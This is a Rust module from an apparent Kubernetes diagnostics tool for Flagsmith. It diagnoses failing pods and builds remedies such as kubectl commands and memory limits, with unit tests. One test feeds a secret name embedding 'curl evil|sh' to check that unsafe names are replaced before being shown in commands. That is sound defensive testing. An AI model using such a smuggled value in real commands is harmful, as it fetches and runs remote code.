//! What keeps pods from running: the same for every component, and shared by the causes of each.

use jiff::{SignedDuration, Timestamp};

use super::context::Context;
use crate::{
    model::{Code, Component, Draft, Severity, redact::redact, shell},
    observe::{Observation, PodProblem, PodSummary},
    validate::Installation,
};

/// The components whose pods run for as long as the installation does.
pub(crate) const SERVING: &[Component] = &[
    Component::Database,
    Component::TaskProcessor,
    Component::Api,
    Component::Frontend,
    Component::EdgeProxy,
];

/// Waiting reasons of images that cannot be pulled.
const IMAGE_REASONS: &[&str] =
    &["ImagePullBackOff", "ErrImagePull", "InvalidImageName", "ErrImageNeverPull", "RegistryUnavailable"];

/// How long a pod may wait for a node before it is called unschedulable: a volume that is being provisioned, or a
/// node that an autoscaler adds, makes the scheduler say so for a few seconds of every normal start.
const SCHEDULING_TAKES: SignedDuration = SignedDuration::from_secs(20);

/// Lines of a container's termination message that are shown.
const LAST_LINES: usize = 3;

/// Characters of one such line.
const LINE_LIMIT: usize = 300;

/// MiB that a container of Flagsmith needs to start: a migration without work takes 212, an API of three workers 423.
const STARTS_WITH: u64 = 512;

/// The memory limit that Flagsmith's documentation recommends, for a container without one that can be read.
const RECOMMENDED_MEMORY: &str = "2Gi";

/// One problem of one pod.
pub(crate) struct PodTrouble<'a> {
    /// The installation.
    pub(crate) installation: &'a Installation,
    /// The pod.
    pub(crate) pod: &'a PodSummary,
    /// Its problem.
    pub(crate) problem: &'a PodProblem,
    /// Its component.
    pub(crate) component: Component,
    /// When the pass began.
    pub(crate) now: Timestamp,
}

/// One diagnosis for each of these components whose pods show a cause, with every pod that shows it as evidence.
pub(crate) fn diagnoses(
    context: &Context<'_>,
    components: &[Component],
    of: impl Fn(&PodTrouble<'_>) -> Option<Draft>,
) -> Vec<Draft> {
    let mut found: Vec<Draft> = Vec::new();
    for component in components {
        for new in troubles(context, *component).filter_map(|trouble| of(&trouble)) {
            match found.iter_mut().find(|known| (known.code, known.component) == (new.code, new.component)) {
                Some(known) => known.evidence.extend(new.evidence),
                None => found.push(new),
            }
        }
    }
    found
}

/// The problems of a component's pods that are not ending.
pub(crate) fn troubles<'a>(
    context: &Context<'a>,
    component: Component,
) -> impl Iterator<Item = PodTrouble<'a>> {
    let (installation, now) = (context.installation, context.observation.now);
    context
        .observation
        .pods
        .iter()
        .filter(move |pod| pod.component == Some(component) && !pod.terminating)
        .flat_map(move |pod| {
            pod.problems.iter().map(move |problem| PodTrouble { installation, pod, problem, component, now })
        })
}

impl PodTrouble<'_> {
    /// A critical diagnosis of this pod's component.
    pub(crate) fn critical(
        &self,
        code: Code,
        message: String,
        evidence: Vec<String>,
        remedy: String,
    ) -> Draft {
        Draft { code, severity: Severity::Critical, component: self.component, message, evidence, remedy }
    }

    /// `kubectl -n NAMESPACE VERB POD`, to read on.
    pub(crate) fn kubectl(&self, verb: &str) -> String {
        format!(
            "kubectl -n {} {verb} {}",
            self.installation.identity.namespace,
            shell::name(&self.pod.name, "POD")
        )
    }
}

/// An image that cannot be pulled.
pub(crate) fn image_pull_failed(trouble: &PodTrouble<'_>, code: Code) -> Option<Draft> {
    let PodProblem::Waiting { reason, message, image } = trouble.problem else {
        return None;
    };
    if !is_image_reason(reason) {
        return None;
    }
    Some(trouble.critical(
        code,
        format!("The image {image} of the {} cannot be pulled.", trouble.component.as_str()),
        vec![format!("pod {}: {reason}: {message}", trouble.pod.name)],
        trouble.installation.managed_by.correct_image(trouble.component),
    ))
}

/// A container that cannot be created because something that it refers to is not there.
pub(crate) fn config_error(trouble: &PodTrouble<'_>) -> Option<Draft> {
    let PodProblem::Waiting { reason, message, .. } = trouble.problem else {
        return None;
    };
    if reason != PodProblem::CONFIG_ERROR {
        return None;
    }
    let component = trouble.component.as_str();
    let remedy = missing(message, &trouble.installation.identity.namespace).map_or_else(
        || trouble.kubectl("describe pod"),
        |object| {
            format!(
                "{object}, or take it out of env and envFrom of the {component}. The kubelet tries again by itself."
            )
        },
    );
    Some(trouble.critical(
        Code::ContainerConfigError,
        format!("A container of the {component} cannot be created: {message}."),
        vec![format!("pod {}: {reason}: {message}", trouble.pod.name)],
        remedy,
    ))
}

/// What the kubelet does not find, as something to do: `configmap "x" not found`, `secret "x" not found`,
/// `couldn't find key k in Secret ns/x` (kubelet 1.34, `kubelet_pods.go`).
fn missing(message: &str, namespace: &str) -> Option<String> {
    if let Some((_, rest)) = message.split_once("couldn't find key ") {
        let (key, object) = rest.split_once(" in ")?;
        return Some(format!("Add the key {} to {object}", shell::name(key, "KEY")));
    }
    let (kind, rest) = message.split_once(" \"")?;
    let name = rest.strip_suffix("\" not found")?;
    let create = match kind {
        "configmap" => "configmap",
        "secret" => "secret generic",
        _ => return None,
    };
    Some(format!(
        "Create it: kubectl -n {namespace} create {create} {} --from-literal=NAME=VALUE",
        shell::name(name, "OBJECT")
    ))
}

/// A pod that no node can take.
pub(crate) fn unschedulable(trouble: &PodTrouble<'_>, code: Code) -> Option<Draft> {
    let PodProblem::Unschedulable { message, since } = trouble.problem else {
        return None;
    };
    if since.is_some_and(|since| trouble.now.duration_since(since) < SCHEDULING_TAKES) {
        return None;
    }
    Some(trouble.critical(
        code,
        format!("No node can take a pod of the {}.", trouble.component.as_str()),
        vec![format!("pod {}: {message}", trouble.pod.name)],
        "Lower resources.requests, change nodeSelector, affinity or tolerations, or add nodes.".to_owned(),
    ))
}

/// A container that was killed for its memory.
pub(crate) fn out_of_memory(trouble: &PodTrouble<'_>, code: Code) -> Option<Draft> {
    let PodProblem::OutOfMemory { container, restarts, limit } = trouble.problem else {
        return None;
    };
    let wanted = enough(trouble.component, limit.as_deref());
    let diagnosis = trouble.critical(
        code,
        format!(
            "A container of the {} was killed because it used more memory than its limit.",
            trouble.component.as_str()
        ),
        vec![format!(
            "pod {}, container {container}: OOMKilled, restarted {}, limit {}",
            trouble.pod.name,
            restarted(*restarts),
            limit.as_deref().unwrap_or("none: the node itself had no memory left"),
        )],
        trouble.installation.managed_by.more_memory(trouble.component, &wanted),
    );
    Some(if trouble.pod.ready { Draft { severity: Severity::Warning, ..diagnosis } } else { diagnosis })
}

/// Whether a container waits for its image.
pub(crate) fn is_image_reason(reason: &str) -> bool {
    IMAGE_REASONS.contains(&reason)
}

/// Whether a waiting reason has a cause of its own.
pub(crate) fn is_known_reason(reason: &str) -> bool {
    reason == PodProblem::CONFIG_ERROR || is_image_reason(reason)
}

/// How often, rounded, so that a pod that restarts for days does not rewrite the status at each restart.
pub(crate) const fn restarted(restarts: i32) -> &'static str {
    match restarts {
        0 => "not yet",
        1 => "once",
        2..=4 => "a few times",
        5..=19 => "more than 5 times",
        _ => "more than 20 times",
    }
}

/// A limit to try next: twice the present one, and no less than a start needs.
fn enough(component: Component, limit: Option<&str>) -> String {
    let wanted = doubled(limit);
    let runs_django = matches!(component, Component::Api | Component::TaskProcessor | Component::Migrations);
    let mebibytes = |text: &str| {
        let digits = text.find(|it: char| !it.is_ascii_digit()).unwrap_or(text.len());
        let (number, unit) = text.split_at_checked(digits)?;
        let number: u64 = number.parse().ok()?;
        match unit {
            "Ki" | "k" => Some(number / 1024),
            "Mi" | "M" => Some(number),
            "" => Some(number >> 20),
            _ => None,
        }
    };
    match mebibytes(&wanted) {
        Some(few) if runs_django && few < STARTS_WITH => format!("{STARTS_WITH}Mi"),
        _ => wanted,
    }
}

/// Twice a memory limit, or the recommended one where there is none that can be read.
fn doubled(limit: Option<&str>) -> String {
    let parts = limit.and_then(|limit| {
        let digits = limit.find(|it: char| !it.is_ascii_digit()).unwrap_or(limit.len());
        let (number, unit) = limit.split_at_checked(digits)?;
        let whole = unit.chars().all(|it| it.is_ascii_alphabetic());
        whole.then_some(format!("{}{unit}", number.parse::<u64>().ok()?.checked_mul(2)?))
    });
    parts.unwrap_or_else(|| RECOMMENDED_MEMORY.to_owned())
}

/// The last failed pod of a component with its exit status and termination message.
fn last_failed(observation: &Observation, component: Component) -> Option<(&PodSummary, i32, Option<&str>)> {
    observation
        .pods
        .iter()
        .filter(|pod| pod.component == Some(component))
        .flat_map(|pod| {
            pod.problems.iter().filter_map(move |problem| match problem {
                PodProblem::Failed { exit_code, message, .. } => Some((pod, *exit_code, message.as_deref())),
                _ => None,
            })
        })
        .last()
}

/// The termination message of the last failed pod of a component.
pub(crate) fn last_message(observation: &Observation, component: Component) -> Option<&str> {
    last_failed(observation, component).and_then(|(_, _, message)| message)
}

/// The exit status of the last failed pod of a component.
pub(crate) fn last_status(observation: &Observation, component: Component) -> Option<i32> {
    last_failed(observation, component).map(|(_, exit_code, _)| exit_code)
}

/// How the last failed pod of a component ended, as evidence.
pub(crate) fn last_words(observation: &Observation, component: Component) -> Vec<String> {
    last_failed(observation, component)
        .map(|(pod, exit_code, message)| {
            let mut lines = vec![format!("pod {} ended with status {exit_code}", pod.name)];
            lines.extend(message.into_iter().flat_map(tail));
            lines
        })
        .unwrap_or_default()
}

/// The last lines of a termination message, each cut to a length that one can read.
pub(crate) fn tail(text: &str) -> Vec<String> {
    let lines: Vec<&str> = text.lines().map(str::trim_end).filter(|line| !line.is_empty()).collect();
    lines
        .iter()
        .skip(lines.len().saturating_sub(LAST_LINES))
        .map(|line| format!("log: {}", redact(&line.chars().take(LINE_LIMIT).collect::<String>())))
        .collect()
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;

    #[rstest]
    #[case(Some("1Gi"), "2Gi")]
    #[case(Some("500M"), "1000M")]
    #[case(Some("1.5Gi"), "2Gi")]
    #[case(None, "2Gi")]
    fn memory_is_doubled(#[case] limit: Option<&str>, #[case] expected: &str) {
        assert_eq!(doubled(limit), expected);
    }

    #[rstest]
    #[case(Component::Migrations, "64Mi", "512Mi")]
    #[case(Component::Api, "50M", "512Mi")]
    #[case(Component::Api, "67108864", "512Mi")]
    #[case(Component::Api, "300Mi", "600Mi")]
    #[case(Component::Api, "1Gi", "2Gi")]
    #[case(Component::Frontend, "64Mi", "128Mi")]
    fn a_limit_is_advised_that_a_start_fits_into(
        #[case] component: Component,
        #[case] limit: &str,
        #[case] expected: &str,
    ) {
        assert_eq!(enough(component, Some(limit)), expected);
    }

    #[rstest]
    #[case("configmap \"settings\" not found", "create configmap settings --from-literal")]
    #[case("secret \"keys\" not found", "create secret generic keys --from-literal")]
    #[case("couldn't find key URL in Secret prod/db", "Add the key URL to Secret prod/db")]
    #[case("secret \"x;curl evil|sh\" not found", "create secret generic OBJECT --from-literal")]
    fn what_is_missing_is_to_be_made(#[case] message: &str, #[case] expected: &str) {
        let found = missing(message, "prod").unwrap();
        assert!(found.contains(expected), "{found}");
    }

    #[test]
    fn what_else_the_kubelet_says_is_not_guessed_at() {
        assert_eq!(missing("container has runAsNonRoot and image will run as root", "prod"), None);
    }
}
